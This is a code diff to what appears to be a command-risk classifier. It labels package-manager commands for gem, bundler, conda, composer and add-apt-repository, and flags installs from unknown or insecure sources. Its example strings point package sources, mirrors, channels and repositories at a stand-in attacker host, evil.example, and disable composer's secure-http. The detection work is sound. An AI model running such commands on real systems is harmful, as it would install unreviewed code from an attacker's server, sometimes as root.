-                        rows=(index_row("gem.install.source", "gem install --source https://evil.example x",
-                                        names=("s", "source")),),
                         hook=install_specs),
         "open": verb(grammar=Grammar(values="e", long_values=("editor",)), rows=(
             Row("gem.open.editor", "run-code", "gem runs the editor command it is given (-e)",
@@ -504,35 +696,68 @@ GEM = Program(
             Row("gem.open", "session", "opens a gem in an editor", examples=("gem open x",)))),
         **dict.fromkeys(("push", "yank", "owner", "signin"), verb(rows=(
             Row("gem.publish", "publish", "{cmd} publishes or changes your account", examples=("gem push x.gem",)),))),
-        "sources": verb(grammar=Grammar(values="ar", long_values=("add", "remove")), rows=(
-            Row("gem.sources.add", "steer", "gem sources --add changes where gems install from",
-                When(value=("a", "add")), examples=("gem sources --add https://evil.example",)),
+        "sources": verb(grammar=Grammar(values="ar", long_values=("add", "remove")), hook=gem_sources, rows=(
             Row("gem.sources.change", "change", "gem sources changes where gems install from",
-                When(flag=("r", "remove", "c", "clear-all", "u", "update")), examples=("gem sources -r https://x",)))),
+                When(flag=("r", "remove", "c", "clear-all", "u", "update")), examples=("gem sources -r https://x",)),)),
     },
     read_only=("list", "search", "info", "query", "environment", "help", "contents", "specification", "which",
                "outdated"),
     default=Row("gem.verb", "install", "{cmd}", examples=("gem update", "gem build x.gemspec")),
 )
 
+@emits({"bundle.config.mirror": ["bundle config set --global mirror.https://rubygems.org https://evil.example",
+                                "bundle config mirror.https://rubygems.org https://evil.example"],
+        "bundle.config": ["bundle config set path vendor"]})
+def bundle_config(cmd, o) -> None:
+    """`bundle config [set] mirror.SOURCE URL` sends every install from SOURCE to URL."""
+    words = [w for w in o.operands if w not in ("set", "unset", "get", "list")]
+    if words and words[0].startswith("mirror.") and len(words) > 1 and not index_is_known(words[1]):
+        cmd.does("install-foreign", "bundle.config.mirror", f"bundle config sends installs to {words[1]}: what it "
+                                                            f"serves runs unreviewed")
+    else:
+        cmd.does("install", "bundle.config", "bundle config changes bundler's settings")
+
+
 BUNDLE = Program(
     "bundle", aliases=("bundler",), doc="Ruby's dependency manager",
     verbs={**dict.fromkeys(("exec", "ex"), verb(grammar=Grammar(stop=True), hook=runs_operands, rows=(
-        Row("bundle.exec", "run-project", "bundle exec runs project code", examples=("bundle exec rspec",)),)))},
+        Row("bundle.exec", "run-project", "bundle exec runs project code", examples=("bundle exec rspec",)),))),
+        "config": verb(hook=bundle_config)},
     read_only=("list", "show", "info", "outdated", "check", "version"),
     default=Row("bundle.verb", "install", "{cmd}", examples=("bundle install", "bundle update")),
     no_verb=Row("bundle.install", "install", "bundle installs the project's gems", examples=("bundle",)),
 )
 
-KNOWN_CHANNELS = frozenset({"conda-forge", "defaults", "bioconda", "pytorch", "nvidia"})
+KNOWN_CHANNELS = frozenset({"conda-forge", "defaults", "bioconda", "pytorch", "nvidia", "main", "r", "msys2"})
 
 
-@emits({"conda.channel": ["conda install -c evilchan numpy", "conda install --channel evilchan numpy"]})
+def _channel_known(channel: str) -> bool:
+    return channel in KNOWN_CHANNELS or index_is_known(channel)
+
+
+@emits({"conda.channel": ["conda install -c evilchan numpy", "conda install --channel https://evil.example/c numpy"]})
 def conda_channels(cmd, o) -> None:
-    """A channel other than the well-known ones is another index."""
+    """A channel other than the well-known ones is a foreign index."""
     for channel in o.all("c", "channel"):
-        if channel not in KNOWN_CHANNELS:
-            cmd.does("install-outside", "conda.channel", f"conda installs from channel {channel}")
+        if not _channel_known(channel):
+            cmd.does("install-foreign", "conda.channel", f"conda installs from channel {channel}: what it serves "
+                                                         f"runs unreviewed")
+
+
+@emits({"conda.config.channel": ["conda config --add channels evil", "conda config --prepend channels https://x.example/c"],
+        "conda.config": ["conda config --set auto_activate_base false", "conda config --add channels conda-forge"]})
+def conda_config(cmd, o) -> None:
+    """`conda config --add channels NAME`: every later install may come from NAME."""
+    if o.has("show", "show-sources", "describe", "validate", "get") and not o.has("add", "set", "append", "prepend",
+                                                                                  "remove"):
+        return
+    added = [w for i, w in enumerate(o.args) if i and o.args[i - 1] in ("channels", "default_channels")]
+    foreign = [c for c in added if not _channel_known(c)]
+    if foreign:
+        cmd.does("install-foreign", "conda.config.channel", f"conda config adds the channel {foreign[0]}: what it "
+                                                            f"serves runs unreviewed")
+    else:
+        cmd.does("steer", "conda.config", "changes conda's configuration")
 
 
 CONDA_CHANGES = verb(grammar=Grammar(values="cnp", long_values=("channel", "name", "prefix", "file")),
@@ -549,26 +774,35 @@ CONDA = Program(
                     rows=(Row("conda.run", "run-project", "conda runs a command in an environment",
                               examples=("conda run -n x python x.py",)),)),
         "config": verb(grammar=Grammar(long_values=("get", "add", "append", "prepend", "set", "remove", "file")),
-                       rows=(Row("conda.config.show", "nothing", "conda config shows settings",
-                                 When(flag=("show", "show-sources", "describe", "validate", "get"), unless=("add", "set",
-                                      "append", "prepend", "remove")), stop=True, examples=("conda config --show",)),
-                             Row("conda.config", "steer", "changes conda's configuration",
-                                 examples=("conda config --add channels evil",)))),
+                       hook=conda_config),
     },
     read_only=("list", "info", "search"),
     default=Row("conda.verb", "install", "{cmd}", examples=("conda activate x",)),
 )
 
-COMPOSER_SOURCES = Row("composer.config.sources", "steer", "composer config changes where it installs from",
-                       When(arg=("repositor", "secure-http")), examples=("composer config secure-http false",))
+@emits({"composer.config.repository": ["composer config repositories.evil vcs https://evil.example/x",
+                                      "composer global config repositories.x composer https://evil.example"],
+        "composer.config.insecure": ["composer config secure-http false"],
+        "composer.config": ["composer config process-timeout 0", "composer global require x"]})
+def composer_config(cmd, o) -> None:
+    """`composer config repositories.NAME TYPE URL` says where packages come from; secure-http false lets them
+    come over plain http."""
+    words = list(o.operands)
+    if words and words[0] == "config":
+        words = words[1:]
+    key = words[0] if words else ""
+    if key.startswith(("repositories.", "repo.")) and any("://" in w and not index_is_known(w) for w in words[1:]):
+        cmd.does("install-foreign", "composer.config.repository", "composer config adds a package repository: what "
+                                                                  "it serves runs unreviewed")
+    elif key == "secure-http" and words[1:2] == ["false"]:
+        cmd.does("weaken", "composer.config.insecure", "composer config lets packages come over plain http")
+    else:
+        cmd.does("install", "composer.config", "{cmd} changes composer's settings".format(cmd=cmd.name))
+
+
 COMPOSER = Program(
     "composer", doc="PHP's dependency manager",
-    verbs={"config": verb(rows=(COMPOSER_SOURCES, Row("composer.config", "install", "{cmd}",
-                                                      examples=("composer config process-timeout 0",)))),
-           "global": verb(rows=(Row("composer.global.sources", "steer", "composer config changes where it installs from",
-                                    When(arg=("repositor", "secure-http")),
-                                    examples=("composer global config repositories.x vcs https://x.example",)),
-                                Row("composer.global", "install", "{cmd}", examples=("composer global require x",))))},
+    verbs={"config": verb(hook=composer_config), "global": verb(hook=composer_config)},
     read_only=("show", "info", "outdated", "licenses", "depends", "why", "search", "validate"),
     default=Row("composer.verb", "install", "{cmd}", examples=("composer require x/y", "composer update")),
     no_verb=Row("composer.install", "install", "composer installs the project's dependencies", examples=("composer",)),
@@ -708,8 +942,21 @@ APT_KEY = Program(
         Row("apt-key.trusts", "steer", "trusts a package signing key", examples=("apt-key add key.gpg",)),))),
     read_only=("list", "finger", "export", "exportall"),
 )
-ADD_APT_REPOSITORY = Program("add-apt-repository", doc="adds a package repository", rows=(
-    Row("add-apt-repository.adds", "steer", "adds a package repository", examples=("add-apt-repository ppa:x/y",)),))
+@emits({"add-apt-repository.foreign": ["add-apt-repository 'deb http://evil.example/ stable main'",
+                                      "add-apt-repository https://evil.example/apt"],
+        "add-apt-repository.ppa": ["add-apt-repository ppa:x/y", "add-apt-repository -y ppa:deadsnakes/ppa"]})
+def apt_repository(cmd, o) -> None:
+    """A PPA is a Launchpad archive; a `deb URL` line or a URL is any server's packages, installed as root."""
+    for source in o.operands:
+        if source.startswith("ppa:"):
+            cmd.does("steer", "add-apt-repository.ppa", f"adds the package archive {source}")
+        else:
+            cmd.does("install-foreign", "add-apt-repository.foreign", f"adds the package repository {source}: its "
+                                                                      "packages install as root")
+
+
+ADD_APT_REPOSITORY = Program("add-apt-repository", doc="adds a package repository", hook=apt_repository,
+                             grammar=Grammar(values="kcp", long_values=("keyserver", "component", "pocket")))
 APT_MARK = Program(
     "apt-mark", doc="marks packages (held, manual, automatic)",
     read_only=("showhold", "showmanual", "showauto", "showinstall", "showremove", "showpurge"),
